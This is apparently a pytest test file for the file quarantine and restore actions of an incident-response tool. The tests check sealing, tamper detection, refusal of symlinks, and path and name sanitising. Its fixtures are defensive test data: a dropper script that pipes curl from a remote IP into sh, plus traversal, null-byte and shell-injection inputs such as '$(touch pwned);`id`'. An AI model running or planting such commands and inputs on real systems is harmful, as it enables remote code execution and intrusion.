"""quarantine_file / restore_file on real files in a temporary directory."""

from __future__ import annotations

import hashlib
import json
import os
import stat
from pathlib import Path

import pytest

from garrison.core.errors import ActionError, InputError
from garrison.respond.actions.base import Ports, Undo
from garrison.respond.actions.memory import MemoryEvidence
from garrison.respond.actions.quarantine import ACTIONS, MAX_SIZE, QuarantineFile, safe_name
from garrison.respond.config import ResponseSettings

from .conftest import MakeContext, scripted

QUARANTINE, RESTORE = ACTIONS
PAYLOAD = b"#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"
DIGEST = hashlib.sha256(PAYLOAD).hexdigest()


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    folder = tmp_path / "srv"
    folder.mkdir()
    path = folder / "drop per.sh"
    path.write_bytes(PAYLOAD)
    path.chmod(0o751)
    os.utime(path, (1_700_000_000, 1_700_000_000))
    return path


def test_quarantine_moves_records_and_seals(
    make_ctx: MakeContext, victim: Path, tmp_path: Path
) -> None:
    evidence = MemoryEvidence()
    runner = scripted()
    ctx = make_ctx(runner, ports=Ports(evidence=evidence))
    args = QUARANTINE.parse({"path": str(victim), "incident_id": 3, "reason": "dropper"})
    outcome = QUARANTINE.run(args, ctx)

    qdir = tmp_path / "home" / "quarantine"
    held = qdir / f"{DIGEST[:16]}-drop_per.sh"
    assert not victim.exists()
    assert held.read_bytes() == PAYLOAD
    assert stat.S_IMODE(held.stat().st_mode) == 0o400
    assert stat.S_IMODE(qdir.stat().st_mode) == 0o700
    sidecar = json.loads(Path(f"{held}.json").read_text())
    assert sidecar == {
        "original": str(victim),
        "quarantined": str(held),
        "mode": "0751",
        "uid": os.getuid(),
        "gid": os.getgid(),
        "size": len(PAYLOAD),
        "mtime": "2023-11-14T22:13:20+00:00",
        "sha256": DIGEST,
        "run_id": 7,
        "incident_id": 3,
        "reason": "dropper",
        "quarantined_at": "2026-11-23T12:00:00+00:00",
    }
    assert evidence.files == [
        {"path": str(held), "incident_id": 3, "name": "drop per.sh", "sha256": DIGEST}
    ]
    assert outcome.output == {
        "sha256": DIGEST,
        "original": str(victim),
        "quarantined": str(held),
        "sidecar": f"{held}.json",
        "evidence": True,
    }
    assert outcome.undo == Undo("restore_file", {"quarantined": str(held), "original": str(victim)})
    assert runner.calls == []


def test_without_an_evidence_store_the_output_says_so(
    make_ctx: MakeContext, victim: Path, tmp_path: Path
) -> None:
    settings = ResponseSettings(quarantine_dir=tmp_path / "q")
    ctx = make_ctx(scripted(), settings=settings, ports=Ports())
    outcome = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx)
    assert outcome.output["evidence"] is False
    assert "not sealed" in outcome.summary
    assert Path(outcome.output["quarantined"]).parent == tmp_path / "q"


def test_a_failing_evidence_store_does_not_fail_the_step(
    make_ctx: MakeContext, victim: Path
) -> None:
    class Broken:
        def add_file(self, path: Path, **_: object) -> str:
            raise ActionError("evidence store is read-only")

    ctx = make_ctx(scripted(), ports=Ports(evidence=Broken()))
    outcome = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx)
    assert outcome.output["evidence"] is False
    assert "read-only" in outcome.output["evidence_error"]
    assert Path(outcome.output["quarantined"]).exists()


def test_restore_puts_the_file_back_with_its_mode(
    make_ctx: MakeContext, victim: Path, tmp_path: Path
) -> None:
    ctx = make_ctx(scripted())
    outcome = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx)
    assert outcome.undo is not None
    restored = RESTORE.run(RESTORE.parse(outcome.undo.args), ctx)
    assert victim.read_bytes() == PAYLOAD
    assert stat.S_IMODE(victim.stat().st_mode) == 0o751
    assert restored.output == {"original": str(victim), "sha256": DIGEST, "restored": True}
    assert list((tmp_path / "home" / "quarantine").iterdir()) == []


def test_restore_never_overwrites(make_ctx: MakeContext, victim: Path) -> None:
    ctx = make_ctx(scripted())
    undo = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx).undo
    assert undo is not None
    victim.write_text("a new file in its place")
    with pytest.raises(ActionError, match="never overwrites"):
        RESTORE.run(RESTORE.parse(undo.args), ctx)
    assert victim.read_text() == "a new file in its place"
    assert Path(undo.args["quarantined"]).exists()


def test_restore_only_to_where_it_came_from(make_ctx: MakeContext, victim: Path) -> None:
    ctx = make_ctx(scripted())
    undo = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx).undo
    assert undo is not None
    other = {**undo.args, "original": "/etc/cron.d/evil"}
    with pytest.raises(ActionError, match="came from"):
        RESTORE.run(RESTORE.parse(other), ctx)


def test_restore_only_from_the_quarantine_directory(
    make_ctx: MakeContext, victim: Path, tmp_path: Path
) -> None:
    ctx = make_ctx(scripted())
    args = RESTORE.parse({"quarantined": str(victim), "original": str(tmp_path / "x")})
    for call in (RESTORE.run, RESTORE.plan):
        with pytest.raises(ActionError, match="not in the quarantine directory"):
            call(args, ctx)


def test_restore_refuses_a_tampered_file(make_ctx: MakeContext, victim: Path) -> None:
    ctx = make_ctx(scripted())
    undo = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx).undo
    assert undo is not None
    held = Path(undo.args["quarantined"])
    held.chmod(0o600)
    held.write_bytes(b"changed")
    with pytest.raises(ActionError, match="SHA-256"):
        RESTORE.run(RESTORE.parse(undo.args), ctx)
    assert not victim.exists()


def test_symlinks_and_non_regular_files_are_refused(make_ctx: MakeContext, victim: Path) -> None:
    link = victim.with_name("link")
    link.symlink_to(victim)
    fifo = victim.with_name("fifo")
    os.mkfifo(fifo)
    ctx = make_ctx(scripted())
    with pytest.raises(ActionError, match="symbolic link"):
        QUARANTINE.run(QUARANTINE.parse({"path": str(link)}), ctx)
    with pytest.raises(ActionError, match="not a regular file"):
        QUARANTINE.run(QUARANTINE.parse({"path": str(fifo)}), ctx)
    with pytest.raises(ActionError, match="not a regular file"):
        QUARANTINE.run(QUARANTINE.parse({"path": str(victim.parent)}), ctx)
    assert link.is_symlink()
    assert victim.read_bytes() == PAYLOAD


def test_missing_and_too_large_files(make_ctx: MakeContext, victim: Path) -> None:
    ctx = make_ctx(scripted())
    with pytest.raises(ActionError, match="no such file"):
        QUARANTINE.run(QUARANTINE.parse({"path": str(victim) + ".nope"}), ctx)
    big = victim.with_name("big.iso")
    with big.open("wb") as handle:
        handle.truncate(MAX_SIZE + 1)  # sparse: no disk used
    with pytest.raises(ActionError, match="larger than 2 GiB"):
        QUARANTINE.run(QUARANTINE.parse({"path": str(big)}), ctx)
    assert big.exists()


def test_files_inside_the_quarantine_are_refused(make_ctx: MakeContext, victim: Path) -> None:
    ctx = make_ctx(scripted())
    held = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx).output["quarantined"]
    with pytest.raises(ActionError, match="quarantine directory already"):
        QUARANTINE.run(QUARANTINE.parse({"path": held}), ctx)


def test_same_name_and_content_twice_gets_a_second_slot(
    make_ctx: MakeContext, victim: Path
) -> None:
    ctx = make_ctx(scripted(), run_id=None)
    first = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx).output["quarantined"]
    victim.write_bytes(PAYLOAD)
    second = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx).output["quarantined"]
    assert second == first + ".2"
    assert Path(second + ".json").exists()


def test_a_retried_step_finds_its_earlier_quarantine(make_ctx: MakeContext, victim: Path) -> None:
    ctx = make_ctx(scripted())
    first = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx)
    again = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx)
    assert not again.changed
    assert again.output["quarantined"] == first.output["quarantined"]
    assert again.undo == first.undo
    other_run = make_ctx(scripted(), run_id=99)
    with pytest.raises(ActionError, match="no such file"):
        QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), other_run)


def test_plan_touches_nothing(make_ctx: MakeContext, victim: Path, tmp_path: Path) -> None:
    ctx = make_ctx(scripted(), ports=Ports(evidence=MemoryEvidence()))
    outcome = QUARANTINE.plan(QUARANTINE.parse({"path": str(victim)}), ctx)
    assert victim.exists()
    assert not (tmp_path / "home").exists()
    assert [e.kind for e in outcome.effects] == ["record", "record", "record"]
    assert outcome.effects[2].detail == "seal the file as evidence"
    assert RESTORE.plan(
        RESTORE.parse(
            {"quarantined": str(tmp_path / "home" / "quarantine" / "f"), "original": "/tmp/f"}
        ),
        ctx,
    ).effects


def test_cross_device_moves_copy_verify_and_remove(
    make_ctx: MakeContext, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Pretend the quarantine is on another file system so the copy path runs for real.
    real_stat = os.stat

    def other_device(path: object, *args: object, **kwargs: object) -> os.stat_result:
        result = real_stat(path, *args, **kwargs)  # type: ignore[arg-type]
        if str(path).endswith("quarantine"):
            fields = list(result)
            fields[stat.ST_DEV] += 1
            return os.stat_result(fields)
        return result

    inode = victim.stat().st_ino
    monkeypatch.setattr("garrison.respond.actions.quarantine.os.stat", other_device)
    ctx = make_ctx(scripted())
    outcome = QUARANTINE.run(QUARANTINE.parse({"path": str(victim)}), ctx)
    monkeypatch.undo()
    held = Path(outcome.output["quarantined"])
    assert not victim.exists()
    assert held.read_bytes() == PAYLOAD
    assert held.stat().st_ino != inode  # a copy, not a rename
    assert stat.S_IMODE(held.stat().st_mode) == 0o400


@pytest.mark.parametrize(
    "raw",
    [
        {"path": "relative/file"},
        {"path": "/srv/../etc/shadow"},
        {"path": "/srv/a\x00b"},
        {"path": "/srv/a\nb"},
        {"path": "/srv/x", "incident_id": 0},
        {"path": "/srv/x", "reason": "r" * 201},
        {"path": "/srv/x", "mode": "0777"},
    ],
)
def test_bad_arguments(raw: dict[str, object]) -> None:
    with pytest.raises(InputError):
        QUARANTINE.parse(raw)


def test_safe_names() -> None:
    assert safe_name("/x/$(touch pwned);`id`") == "__touch_pwned___id_"
    assert safe_name("/x/ünïcode.exe") == "_n_code.exe"
    assert safe_name("/") == "file"
    assert isinstance(QUARANTINE, QuarantineFile)
